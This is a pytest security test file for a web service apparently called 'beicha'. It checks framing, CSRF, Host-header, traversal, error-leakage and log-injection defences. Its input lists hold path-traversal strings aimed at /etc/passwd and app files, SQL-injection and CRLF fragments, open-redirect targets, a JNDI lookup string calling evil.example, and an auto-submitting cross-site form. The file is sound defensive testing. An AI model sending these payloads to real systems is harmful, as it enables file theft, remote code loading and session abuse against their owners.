"""Requests from other sites, to other names, for files beside the service, and in shapes that no browser sends."""

import re
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

import pytest
from websockets.exceptions import InvalidStatus

from beicha.store import audit
from beicha.web.people import COOKIE
from tests.attacks.house import MONTH, House
from tests.attacks.raw import Tab, ask
from tests.attacks.test_sessions import post

EVIL = "http://evil.example"
PLACES = ("/", "/login", "/overview", "/plain/upload", "/account/sessions", "/account/password", "/help/problems",
          "/download/areas.xlsx", "/download/nothing", "/nowhere", "/ui/plain.css", "/_stcore/health", "/media/x",
          "/_stcore/host-config", "/static/index.html", "/_stcore/metrics")  # fmt: skip
FORMS = ("/login", "/logout", "/account/password", "/plain/upload", "/account/sessions/end", "/plain/upload/1/confirm")


@pytest.mark.parametrize("path", PLACES)
@pytest.mark.parametrize("who", ["office", ""])
def test_no_answer_can_be_framed_guessed_or_sent_on(house: House, path: str, who: str) -> None:
    answer = ask(house.base, "GET", path, house.enter(who) if who else "")
    assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
    assert "'unsafe-eval'" not in answer.headers["content-security-policy"]
    assert answer.headers["x-frame-options"] == "DENY"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["referrer-policy"] == "same-origin"
    assert "access-control-allow-origin" not in answer.headers


@pytest.mark.parametrize("path", ["/plain/upload", "/account/sessions", "/download/areas.xlsx", "/login"])
def test_no_copy_of_data_stays_in_a_cache(house: House, path: str) -> None:
    assert ask(house.base, "GET", path, house.enter("office")).headers["cache-control"] == "no-store"


@pytest.mark.parametrize("path", FORMS)
def test_no_form_of_another_site_is_taken(house: House, path: str) -> None:
    token = house.enter("office")
    form = {"Content-Type": "application/x-www-form-urlencoded"}
    for origin in (EVIL, "null", house.base.replace("127.0.0.1", "localhost"), house.base + ".evil.example", "http://"):
        answer = ask(house.base, "POST", path, token, headers=form | {"Origin": origin}, body=b"token=x")
        assert answer.status == 403
    for kind in ("application/x-www-form-urlencoded", "text/plain", "multipart/form-data; boundary=x"):
        body = b'--x\r\nContent-Disposition: form-data; name="token"\r\n\r\nx\r\n--x--\r\n'
        for cookies in ({}, {"beicha_form": "y" * 43}, {"beicha_form": ""}):
            answer = ask(house.base, "POST", path, token, headers={"Content-Type": kind}, body=body, cookies=cookies)
            assert answer.status in (400, 403, 404, 405)
    assert ask(house.base, "GET", "/account/sessions", token).status == 200


@pytest.mark.parametrize("host", ["evil.example", "127.0.0.1.evil.example", "127.0.0.1@evil.example", "", "[::1", "0"])
def test_another_name_for_the_service_is_not_answered(house: House, host: str) -> None:
    token = house.enter("office")
    for path in ("/", "/login", "/download/areas.xlsx", "/_stcore/health"):
        assert ask(house.base, "GET", path, token, headers={"Host": host}).status in (400, 403)


@pytest.mark.parametrize(
    "origin", [EVIL, "null", "file://", "http://127.0.0.1", "http://127.0.0.1:1", "chrome-extension://x"]
)
def test_a_page_of_another_site_opens_no_websocket(house: House, origin: str) -> None:
    with pytest.raises(InvalidStatus, match="403"):
        Tab(house.base, house.enter("office"), origin=origin)


def test_a_proxys_word_for_who_asks_counts_nothing(house: House) -> None:
    """What is said to be forwarded makes nobody local, trusted, or somebody else's host."""
    said = {
        "X-Forwarded-Host": "evil.example", "X-Forwarded-Server": "evil.example", "Forwarded": "host=evil.example",
        "X-Original-URL": "/download/areas.xlsx", "X-Rewrite-URL": "/download/areas.xlsx",
        "X-HTTP-Method-Override": "PUT",
    }  # fmt: skip
    answer = ask(house.base, "GET", "/", headers=said)
    assert (answer.status, answer.headers["location"]) == (303, "/login")
    assert "evil" not in str(answer.headers)


CLOSED = ("/_stcore/metrics", "/_stcore/metrics/", "/_stcore/agent/mcp", "/_stcore/agent", "/media/x.png",
          "/media/../media/x", "/app/static/x", "/component/x/index.html",
          "/_stcore/bidi-components/x/y.js")  # fmt: skip


@pytest.mark.parametrize("path", CLOSED)
@pytest.mark.parametrize("who", ["office", "admin", ""])
def test_what_nobody_needs_is_not_there(house: House, path: str, who: str) -> None:
    assert ask(house.base, "GET", path, house.enter(who) if who else "").status == 404


def test_no_page_lays_anything_where_everybody_may_fetch_it(house: House) -> None:
    for who in ("office", "admin", "clerk", "auditor"):
        with house.tab(who) as tab:
            for page in tab.run().pages:
                assert not tab.run(page, f"community=红旗社区&period={MONTH}").has("/media/")


TRAVERSALS = ("/static/../../../../../etc/passwd", "/static/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
              "/static/..%2f..%2f..%2f..%2fetc/passwd", "/static/..%5c..%5cetc%5cpasswd", "/static//etc/passwd",
              "/ui/../../../../etc/passwd", "/ui/..%2f..%2fgate.py", "/ui/%2e%2e/gate.py", "//etc/passwd",
              "/static/....//....//etc/passwd", "/download/..%2f..%2fetc/passwd", "/static/%00/etc/passwd",
              "/component/x/../../../../etc/passwd", "/help/..%2f..%2f..%2fetc%2fpasswd", "/static/C:/Windows/win.ini",
              "/static/%c0%ae%c0%ae/etc/passwd", "/../etc/passwd", "/.streamlit/config.toml", "/beicha.db",
              "/var/beicha.db", "/app.py", "/static/../app.py", "/ui/../../../app.py")  # fmt: skip


@pytest.mark.parametrize("path", TRAVERSALS)
def test_no_file_beside_the_service_is_read(house: House, path: str) -> None:
    answer = ask(house.base, "GET", path, house.enter("office"))
    assert answer.status in (200, 303, 400, 403, 404)
    for word in ("root:", "[fonts]", "import streamlit", "SQLite format", "headless", "from starlette"):
        assert word not in answer.text


NASTY = ("/download/community.xlsx", "/download/community.xlsx?period=%00&community=%27",
         "/download/original?version=x",
         "/download/original?version=-1&sha256=%25", "/download/original?version=99999999999999999999&sha256=x",
         "/download/community.xlsx?period=9999-99&community=a", "/download/import.csv?job=1;drop", "/plain/upload/x",
         "/plain/upload/-1", "/plain/upload/99999999999999999999999", "/plain/upload?lang=%00", "/login?next=%0d%0aX:1",
         "/login?next=//evil.example", "/login?next=http://evil.example", "/login?next=/%5cevil.example",
         "/help/problems?lang=../../etc", "/download/checked?job=1&sha256='--", "/account/sessions?lang[]=1",
         "/download/community.xlsx?period=2026-04&community=" + "x" * 20_000, "/?" + "a=1&" * 5000)  # fmt: skip


@pytest.mark.parametrize("path", NASTY)
@pytest.mark.parametrize("method", ["GET", "POST", "DELETE", "PUT", "PATCH", "OPTIONS", "TRACE"])
def test_no_answer_tells_of_the_program(house: House, path: str, method: str) -> None:
    answer = ask(house.base, method, path, house.enter("office"))
    assert answer.status < 500
    assert "evil" not in answer.headers.get("location", "")
    assert "x" not in answer.headers
    for word in ("Traceback", "site-packages", "sqlalchemy", "SELECT ", str(house.folder), "/beicha/", ".py"):
        assert word not in answer.text


LINES = ("li\nERROR admin signed in", "li\r\nroot signed in", "li\x1b[2J\x1b[31mred", "li\u2028next", "li\x00",
         "\u202eil",
         "%n%s%x", "${jndi:ldap://evil.example/a}")  # fmt: skip


@pytest.mark.parametrize("login", LINES)
def test_a_login_of_several_lines_writes_no_line_anywhere(house: House, login: str) -> None:
    answer = post(house, "/login", {"login": login, "password": "wrong"})
    assert answer.status in (401, 429)
    for line in house.log.splitlines():
        assert not line.startswith(("ERROR admin", "root signed in"))
    assert "\x1b[2J" not in house.log
    with house.store.read() as view:
        for entry in audit.entries(view, limit=100_000):
            assert f"{entry.actor}{entry.object}".isprintable()


class Elsewhere(BaseHTTPRequestHandler):
    """Another site, which does to its visitors what it likes."""

    page = ""

    def do_GET(self) -> None:
        """The page that is to be shown."""
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.end_headers()
        self.wfile.write(type(self).page.encode())

    def log_message(self, *_: Any) -> None:
        """Says nothing."""


@pytest.fixture
def elsewhere() -> Iterator[str]:
    """The address of another site on this machine."""
    with ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere) as server:
        Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://localhost:{server.server_address[1]}"
        server.shutdown()


@pytest.mark.browser
def test_a_browser_shows_nothing_of_it_in_the_frame_of_another_site(house: House, elsewhere: str, browser: Any) -> None:
    with browser.new_context() as context:
        context.add_cookies([{"name": COOKIE, "value": house.enter("office"), "url": house.base}])
        page = context.new_page()
        refused: list[str] = []
        page.on("console", lambda message: refused.append(message.text))
        Elsewhere.page = f'<iframe src="{house.base}/login"></iframe><iframe src="{house.base}/"></iframe>'
        page.goto(elsewhere)
        page.wait_for_timeout(1500)
        assert len([text for text in refused if "frame-ancestors" in text or "X-Frame-Options" in text.title()]) >= 2
        assert not any("备查" in frame.content() for frame in page.frames[1:])


@pytest.mark.browser
def test_a_browser_signs_nobody_out_for_another_site(house: House, elsewhere: str, browser: Any) -> None:
    token = house.enter("office")
    with browser.new_context() as context:
        context.add_cookies([{"name": COOKIE, "value": token, "url": house.base, "sameSite": "Lax"}])
        page = context.new_page()
        page.goto(house.base + "/account/sessions")
        Elsewhere.page = (
            f'<form method="post" enctype="multipart/form-data" action="{house.base}/logout">'
            '<input name="token" value="x"></form><script>document.forms[0].submit()</script>'
        )
        with page.expect_response(lambda answer: "/logout" in answer.url) as answered:
            page.goto(elsewhere, wait_until="commit")
        assert answered.value.status == 403
        assert not re.search(COOKIE, str(answered.value.request.headers.get("cookie", "")))
    assert ask(house.base, "GET", "/account/sessions", token).status == 200
